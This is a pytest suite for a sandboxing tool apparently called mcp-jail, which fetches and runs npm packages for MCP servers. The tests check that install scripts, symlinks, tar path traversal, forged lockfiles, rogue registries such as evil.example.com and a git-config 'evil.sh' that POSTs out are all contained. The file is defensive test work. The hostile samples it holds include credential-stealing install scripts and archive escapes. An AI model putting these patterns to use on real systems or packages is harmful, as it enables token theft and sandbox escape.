"""A package is fetched once, in a jail, from the user's own registry; attacks on each step."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from driver import running, started, wait_until
from net.publishing import NAME, SERVER, Release, link, publish, publish_repository
from net.user import COMMAND, HOST, User, drafts, plant_secrets, thief, told_to_evil
from terminal import terminal

pytestmark = pytest.mark.usefixtures("npm_tree")


def called(client: Any) -> Any:
    client.open()
    return client.call("who", host="api.example.com")["content"]


def test_a_pinned_server_starts_without_its_registry_and_asks_for_nothing(user: User) -> None:
    user.publish(v1_0_0=Release())
    facts = user.install()
    assert facts["npm"] == NAME
    assert facts["version"] == "1.0.0"
    assert facts["written"] is True
    before = len(user.home.audit())
    shutil.rmtree(user.folder)
    asked = user.asked()
    # Not on that machine any more: here there is no such registry, and none was ever there.
    for command in ((), ("--", *COMMAND)):
        with started(user.home, "run", "fs", *command) as client:
            client.open()
            assert client.request("tools/list")["result"]["tools"][0]["name"] == "who"
            assert client.close() == 0
    of_runs = user.home.audit()[before:]
    assert [entry for entry in of_runs if entry["kind"] == "net"] == []
    assert user.asked() == asked
    assert of_runs[0]["detail"]["network"]["mode"] == "none"


def test_what_an_install_reached_and_came_to_is_in_the_audit(user: User) -> None:
    user.publish(v1_0_0=Release())
    facts = user.install()
    first, *net, last = user.home.audit()
    assert first["reason"] == f"npm {NAME} 1.0.0 is being installed"
    assert {entry["name"] for entry in net} == {f"{HOST}:443"}
    assert last["detail"]["sha256"] == facts["sha256"]
    done = user.does("log", "fs", "--verify")
    assert done.returncode == 0, done.stdout


def test_the_thief_finds_what_there_is_where_nothing_holds_it(user: User, tmp_path: Path) -> None:
    plant_secrets(user)
    (tmp_path / "steal.js").write_text(thief(user))
    env = user.home.environ(NPM_TOKEN="CANARY")
    subprocess.run(["node", "steal.js"], cwd=tmp_path, env=env, check=True)
    found = json.loads((tmp_path / "found.json").read_text())
    assert "CANARY" in found["npmrc"][0]
    assert "CANARY-KEY" in found["key"][0]
    assert found["env"] == [["NPM_TOKEN", "CANARY"]]
    assert found["wrote"] is True


def test_a_person_is_shown_what_an_install_is_at(user: User) -> None:
    user.publish(v1_0_0=Release())
    words, env = user.words("install", "fs")
    env |= {"npm_config_registry": f"{user.url}/", "TERM": "xterm", "COLUMNS": "100"}
    with terminal(words, env, user.home.path) as screen:
        assert screen.end() == 0
    for said in ("asking the registry", "fetching, in a jail", "reading every file", "installed"):
        assert said in screen.shown


def test_an_install_script_is_not_run(user: User) -> None:
    steal = {"preinstall": "node steal.js", "postinstall": "node steal.js"}
    user.publish(v1_0_0=Release({"scripts": steal}, {"steal.js": thief(user)}))
    plant_secrets(user)
    user.install()
    assert user.own("steal.js").exists()
    assert not user.own("found.json").exists()
    assert told_to_evil(user) == []


def test_an_install_script_that_is_allowed_finds_nothing_and_reaches_nobody(user: User) -> None:
    user.policy(f'package: {{npm: {NAME}, version: "1.0.0", scripts: allow}}\n')
    steal = {"postinstall": "node steal.js"}
    user.publish(v1_0_0=Release({"scripts": steal}, {"steal.js": thief(user)}))
    plant_secrets(user)
    facts = user.install(npm_config_registry="")
    assert facts["scripts"] is True
    tree = user.packages / "npm" / f"{NAME}@1.0.0+scripts" / "tree"
    found = json.loads((tree / "node_modules" / NAME / "found.json").read_text())
    assert found["npmrc"] == ["ENOENT", "ENOENT"]
    assert found["key"] == ["ENOENT", "ENOENT"]
    assert found["projects"] == "ENOENT"
    assert found["env"] == []
    assert found["parent"] is False
    assert found["wrote"] == "ENOENT"
    assert set(found["told"]) <= {"ENOTFOUND", "ENETUNREACH", "ECONNREFUSED", "EACCES"}
    assert told_to_evil(user) == []
    assert not (user.home.projects / "planted").exists()
    # The token was used where it belongs, in the step before.
    assert any(line.endswith(" Bearer TOKEN-CANARY") for line in user.asked())


def test_an_install_script_does_not_say_where_its_package_came_from(user: User) -> None:
    user.policy(f'package: {{npm: {NAME}, version: "1.0.0", scripts: allow}}\n')
    forged = {"packages": {f"node_modules/{NAME}": {"integrity": "sha512-FORGED\x1b[31m"}}}
    forge = (
        f"require('fs').writeFileSync('../.package-lock.json', {json.dumps(json.dumps(forged))})"
    )
    user.publish(v1_0_0=Release({"scripts": {"postinstall": "node f.js"}}, {"f.js": forge}))
    facts = user.install()
    kept = user.packages / "npm" / f"{NAME}@1.0.0+scripts/tree/node_modules/.package-lock.json"
    assert "FORGED" in kept.read_text()
    assert "FORGED" not in facts["integrity"]
    assert facts["integrity"].startswith("sha512-")
    assert facts["registries"] == {f"{user.url}/": [NAME]}


def test_an_install_script_that_plants_a_way_out_has_its_package_refused(user: User) -> None:
    user.policy(f'package: {{npm: {NAME}, version: "1.0.0", scripts: allow}}\n')
    plant = {"postinstall": f"ln -s {user.home.secret.parent} out"}
    user.publish(v1_0_0=Release({"scripts": plant}))
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert "a link that leads out" in done.stderr
    assert drafts(user) == []


def test_a_token_goes_to_its_registry_alone(user: User) -> None:
    user.publish(v1_0_0=Release())
    plant_secrets(user)
    user.install(npm_config_registry="")
    logins = {line.rpartition(" ")[0].split()[0] for line in user.asked() if "CANARY" in line}
    assert logins == {HOST}
    kept = [path for path in user.packages.rglob("*") if path.is_file()]
    assert kept
    assert not any(b"CANARY" in path.read_bytes() for path in kept)


def test_a_project_does_not_say_where_a_package_comes_from(user: User) -> None:
    user.publish(v1_0_0=Release())
    evil = user.folder.with_name(f"{user.folder.name}-evil")
    publish(evil, f"https://evil.example.com/{evil.name}", {"6.6.6": Release()})
    text = f"registry=https://evil.example.com/{evil.name}/\nscript-shell=/bin/evil\n"
    (user.home.projects / ".npmrc").write_text(text)
    (user.home.projects / "package.json").write_text("{}")
    (user.home.path / ".npmrc").write_text(f"registry={user.url}/\n")
    done = user.does("install", "fs", "--json", cwd=user.home.projects, npm_config_registry="")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["version"] == "1.0.0"
    assert not [line for line in user.machine.log("requests").splitlines() if evil.name in line]


def test_an_archive_writes_nowhere_but_into_its_own_tree(user: User) -> None:
    out = "../" * 12 + str(user.home.projects / "planted").lstrip("/")
    members = (
        link("package/out", str(user.home.projects)),
        link("package/up", "../../../../../../../.."),
        link("package/hard", str(user.home.secret), tarfile.LNKTYPE),
    )
    files = {f"../{out}": "x", out: "x", str(user.home.projects / "planted"): "x"}
    user.publish(v1_0_0=Release(files=files | {"out/planted": "x"}, members=members))
    done = user.does("install", "fs", "--json")
    assert done.returncode == 0, done.stderr  # npm leaves out what leads out
    assert not (user.home.projects / "planted").exists()
    inside = [path for path in user.packages.rglob("*") if "planted" not in path.name]
    for path in inside:
        assert path.resolve().is_relative_to(user.packages.resolve()), path
        assert not path.is_file() or b"CANARY-KEY" not in path.read_bytes()


def test_a_dependency_from_elsewhere_is_not_fetched(user: User) -> None:
    elsewhere = f"https://evil.example.com/{user.folder.name}/{NAME}-1.0.0.tgz"
    user.publish(v1_0_0=Release({"dependencies": {"other": elsewhere}}))
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert "evil.example.com" in done.stderr
    assert not [line for line in user.asked() if line.startswith("evil")]
    assert not user.tree().exists()


def test_a_dependency_from_a_repository_on_the_registrys_own_host_runs_nothing(user: User) -> None:
    user.url = user.url.replace("https:", "http:")  # git would not trust the machine's authority
    inner, outer = user.folder / "inner.git", user.folder / "outer.git"
    user.folder.mkdir()
    publish_repository(inner, {"package.json": '{"name": "inner", "version": "1.0.0"}'})
    wants = {"inner": f"git+{user.url}/inner.git"}
    manifest = {"name": "outer", "version": "1.0.0", "dependencies": wants}
    manifest |= {"scripts": {"prepare": "./evil.sh"}}
    evil = """#!/bin/sh
exec node -e 'fetch("URL/MARK", {method: "POST"})'
""".replace("URL", user.url).replace("MARK", user.mark)
    files = {"package.json": json.dumps(manifest), ".npmrc": "git=./evil.sh\n", "evil.sh": evil}
    publish_repository(outer, files)
    user.publish(v1_0_0=Release({"dependencies": {"outer": f"git+{user.url}/outer.git"}}))
    plant_secrets(user)
    done = user.does("install", "fs", npm_config_registry="")
    assert done.returncode == 6
    assert not [line for line in user.asked() if user.mark in line]
    assert not [line for line in user.asked() if ".git/" in line]
    assert not user.tree().exists()


def test_a_dependency_from_an_address_on_the_registrys_own_host_is_refused(user: User) -> None:
    publish(user.folder, user.url, {"1.0.0": Release()}, name="other")
    address = f"{user.url}/other-1.0.0.tgz"
    user.publish(v1_0_0=Release({"dependencies": {"other": address}}))
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert f"needs 'other' from elsewhere than a registry: '{address}'" in done.stderr
    assert not user.tree().exists()


def test_who_installs_is_told_which_registry_gave_what(user: User) -> None:
    own = user.folder.with_name(f"{user.folder.name}-own")
    publish(own, f"https://{HOST}/{own.name}", {"1.0.0": Release()}, name="@corp/helper")
    user.publish(v1_0_0=Release({"dependencies": {"@corp/helper": "1"}}))
    (user.home.path / ".npmrc").write_text(f"@corp:registry=https://{HOST}/{own.name}/\n")
    facts = user.install()
    assert facts["registries"] == {
        f"{user.url}/": [NAME],
        f"https://{HOST}/{own.name}/": ["@corp/helper"],
    }
    told = " ".join(user.does("install", "fs").stdout.split())
    assert f"from {user.url}/: {NAME} from https://{HOST}/{own.name}/: @corp/helper" in told


def test_a_dependency_of_a_registry_under_another_name_is_fetched(user: User) -> None:
    publish(user.folder, user.url, {"1.0.0": Release()}, name="other")
    wants = {"other": "^1", "again": "npm:other@1.0.0"}
    user.publish(v1_0_0=Release({"dependencies": wants}))
    assert user.install()["new"] is True
    assert (user.tree() / "node_modules/again/server.js").exists()


def test_a_tree_that_somebody_changed_is_not_started(user: User) -> None:
    user.publish(v1_0_0=Release())
    user.install()
    script = user.own("server.js")
    script.chmod(0o644)
    before = script.read_text()
    times = script.stat()
    script.write_text(before + "// changed\n")
    os.utime(script, ns=(times.st_atime_ns, times.st_mtime_ns))
    with started(user.home, "run", "fs") as client:
        assert client.wait() == 6
    assert b"server.js" in client.stderr
    assert b"not as it was installed" in client.stderr
    script.write_text(before)
    script.chmod(0o555)
    with started(user.home, "run", "fs") as client:  # the same again, if slower
        client.open()
        assert client.close() == 0
    (script.parent / "more.js").write_text("")
    with started(user.home, "run", "fs") as client:
        assert client.wait() == 6
    assert b"more.js" in client.stderr
    assert user.install()["new"] is True
    with started(user.home, "run", "fs") as client:
        client.open()
        assert client.close() == 0


def removed(user: User) -> None:
    shutil.rmtree(user.tree())


def removed_in_part(user: User) -> None:
    shutil.rmtree(user.tree() / "node_modules")


def without_its_program(user: User) -> None:
    user.own("server.js").unlink()


def without_another_file(user: User) -> None:
    user.own("package.json").unlink()


def another_one_by_a_link(user: User) -> None:
    user.tree().rename(user.tree().with_name("kept"))
    user.tree().symlink_to("kept")


@pytest.mark.parametrize(
    "change",
    [removed, removed_in_part, without_its_program, without_another_file, another_one_by_a_link],
)
def test_a_tree_that_is_not_whole_is_told_with_its_cure_and_mended(
    user: User, change: Callable[[User], None]
) -> None:
    user.publish(v1_0_0=Release())
    user.install()
    change(user)
    with started(user.home, "run", "fs") as client:
        assert client.wait() == 6
    assert b"not as it was installed" in client.stderr
    assert b"mcp-jail install fs" in client.stderr
    seen = json.loads(user.does("doctor", "--json").stdout)["policies"]
    (fault,) = (each for each in seen if "not as it was installed" in each["message"])
    assert (fault["cure"], fault["fails"]) == ("mcp-jail install fs", True)
    assert user.install()["new"] is True
    with started(user.home, "run", "fs") as client:
        client.open()
        assert client.close() == 0


def test_a_package_that_was_swapped_with_its_record_is_another_server(user: User) -> None:
    user.publish(v1_0_0=Release())
    user.install()
    with started(user.home, "run", "fs") as client:
        client.open()
        client.request("tools/list")
        assert client.close() == 0
    user.publish(v1_0_0=Release(server=SERVER.replace('"Ask."', '"Ask, and tell."')))
    shutil.rmtree(user.tree().parent)
    user.install()
    with started(user.home, "run", "fs") as client:
        assert client.wait() == 3
    assert b"another server is started than the one you approved" in client.stderr


def test_a_package_that_is_not_installed_is_not_fetched_by_a_start(user: User) -> None:
    user.policy(f'package: {{npm: {NAME}, version: "1.0.0"}}\n')
    user.publish(v1_0_0=Release())
    done = user.does("run", "fs")
    assert done.returncode == 6
    assert "mcp-jail install fs" in done.stderr
    assert user.asked() == []


def test_a_kill_in_the_middle_leaves_nothing_that_is_used(user: User) -> None:
    user.publish(v1_0_0=Release())
    words, env = user.words("install", "fs")
    env["npm_config_registry"] = "https://files.example.com:9002/"  # takes it, and says nothing
    user.policy(f'package: {{npm: {NAME}, version: "1.0.0"}}\n')
    process = subprocess.Popen(words, env=env, cwd=user.home.path, start_new_session=True)
    wait_until(lambda: bool(drafts(user)))
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
    assert drafts(user)
    assert not user.tree().exists()
    assert user.install()["new"] is True
    assert drafts(user) == []


def test_two_installs_at_once_make_one_package(user: User) -> None:
    user.publish(v1_0_0=Release())
    user.policy(f'package: {{npm: {NAME}, version: "1.0.0"}}\n')
    words, env = user.words("install", "fs", "--json")
    env["npm_config_registry"] = f"{user.url}/"
    both = [
        subprocess.Popen(words, env=env, cwd=user.home.path, stdout=subprocess.PIPE)
        for _ in range(2)
    ]
    said = [json.loads(process.communicate()[0]) for process in both]
    assert [process.returncode for process in both] == [0, 0]
    assert said[0]["sha256"] == said[1]["sha256"]
    assert drafts(user) == []
    with started(user.home, "run", "fs") as client:
        client.open()
        assert client.close() == 0


def test_installs_at_once_of_a_policy_that_pins_nothing_yet_all_succeed(user: User) -> None:
    user.publish(v1_0_0=Release())
    words, env = user.words("install", "fs", "--json")
    env["npm_config_registry"] = f"{user.url}/"
    all_of_them = [
        subprocess.Popen(words, env=env, cwd=user.home.path, stdout=subprocess.PIPE)
        for _ in range(3)
    ]
    said = [json.loads(process.communicate()[0]) for process in all_of_them]
    assert [process.returncode for process in all_of_them] == [0, 0, 0]
    assert [each["written"] for each in said] == [True, True, True]
    text = (user.home.policies / "fs.yaml").read_text()
    assert text.count("package:") == 1


def test_the_server_cannot_write_its_own_package(user: User) -> None:
    tries = (
        "(() => { try { require('fs').writeFileSync(__dirname + '/new.js', ''); return 'wrote'; }"
        " catch (e) { return e.code; } })()"
    )
    writes = SERVER.replace("await who(params.arguments.host)", tries)
    user.publish(v1_0_0=Release(server=writes))
    user.install()
    with started(user.home, "run", "fs") as client:
        assert called(client)[0]["text"] == "EROFS"
        assert client.close() == 0


def test_an_unpinned_package_reaches_its_registry_and_no_other_host(user: User) -> None:
    user.publish(v1_0_0=Release())
    unpinned(user)
    plant_secrets(user)
    evil = "https://evil.example.com/npm/"
    words, env = user.words("run", "fs")
    env["npm_config_registry"] = evil  # a client's entry may be somebody else's words
    with running(words, env, user.home.projects) as client:
        answer, told = called(client)
        assert answer["text"] == "ENOTFOUND"
        assert "'api.example.com'" in told["text"]
        assert client.close() == 0
    net = [entry for entry in user.home.audit() if entry["kind"] == "net"]
    assert {e["name"] for e in net if e["verdict"] == "allow"} == {f"{HOST}:443"}
    assert not [line for line in user.asked() if "CANARY" in line]
    shown = json.loads(user.does("show", "fs", "--json").stdout)
    assert {"host": HOST, "tls": "verify-name"} in shown["network"]["allow"]
    assert "each start runs whatever the registry has then" in shown["lints"][0]


def test_an_unpinned_package_of_a_scope_comes_from_the_registry_of_that_scope(user: User) -> None:
    public = user.folder.with_name(f"{user.folder.name}-public")
    own, stranger = Release(), Release(server=SERVER.replace('"Ask."', '"Ask a stranger."'))
    publish(user.folder, user.url, {"1.0.0": own}, name="@corp/tiny-server")
    publish(public, f"https://{HOST}/{public.name}", {"6.6.6": stranger}, name="@corp/tiny-server")
    text = f"registry=https://{HOST}/{public.name}/\n@corp:registry={user.url}/\n"
    (user.home.path / ".npmrc").write_text(text)
    unpinned(user, "@corp/tiny-server")
    words, env = user.words("run", "fs")
    with running(words, env, user.home.path) as client:
        client.open()
        (tool,) = client.request("tools/list")["result"]["tools"]
        assert tool["description"] == "Ask."
        assert client.close() == 0


def test_an_unpinned_package_has_a_cache_of_its_own(user: User) -> None:
    user.publish(v1_0_0=Release())
    unpinned(user)
    (user.home.path / ".npmrc").write_text(f"registry={user.url}/\n")
    words, env = user.words("run", "fs")
    with running(words, env, user.home.path) as client:
        client.open()
        assert client.close() == 0
    kept = user.home.path / ".local/share/mcp-jail/homes/fs/.npm"
    assert kept.is_dir()
    assert not (user.home.path / ".npm").exists()


def test_a_policy_without_a_network_opens_its_registry_and_not_what_it_lists(user: User) -> None:
    more = f"package: {{npm: {NAME}, unpinned: true}}\nnetwork: {{allow: [api.example.com]}}\n"
    user.policy(more)
    (user.home.path / ".npmrc").write_text(f"registry={user.url}/\n")
    shown = json.loads(user.does("show", "fs", "--json").stdout)
    assert shown["network"]["allow"] == [{"host": HOST, "tls": "verify-name"}]


def unpinned(user: User, name: str = NAME) -> None:
    trusted = json.dumps(user.machine.trusting)
    user.policy(
        command=("npx", "-y", name),
        more=f'package: {{npm: "{name}", unpinned: true}}\nenv: {{set: {trusted}}}\n'
        f"filesystem: {{read_only: [{user.machine.folder}]}}\n",
    )
